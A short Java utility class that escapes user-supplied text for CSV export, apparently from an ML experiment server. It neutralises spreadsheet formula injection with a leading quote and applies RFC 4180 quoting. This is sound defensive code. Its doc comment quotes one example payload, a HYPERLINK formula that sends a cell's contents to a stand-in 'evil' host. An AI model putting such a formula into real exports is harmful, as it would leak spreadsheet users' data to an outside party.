package dev.lrlab.experiment;

/**
 * One CSV cell of user text (a run label, an alias, a spec path, an answer), the single rule of every
 * CSV the server writes. A spreadsheet runs a cell starting with {@code = + - @} (and, in some, a
 * tab or a carriage return) as a formula: {@code =HYPERLINK("http://evil/?"&A1,"click")} in a run
 * label would otherwise run on the teacher's machine. Such a cell gets a leading {@code '}, which
 * spreadsheets show as text; then RFC 4180 quoting for separators, quotes and line breaks.
 * Numbers are written by their callers and never pass through here (a negative loss stays a number).
 */
public final class CsvCells {
    /** First characters a spreadsheet may read as the start of a formula. */
    static final String FORMULA_STARTS = "=+-@\t\r";

    private CsvCells() {
    }

    /** {@code s} as one CSV cell of text; null is the empty cell. */
    public static String text(String s) {
        if (s == null) {
            return "";
        }
        String t = !s.isEmpty() && FORMULA_STARTS.indexOf(s.charAt(0)) >= 0 ? "'" + s : s;
        if (t.indexOf(',') >= 0 || t.indexOf('"') >= 0 || t.indexOf('\n') >= 0 || t.indexOf('\r') >= 0) {
            return '"' + t.replace("\"", "\"\"") + '"';
        }
        return t;
    }
}
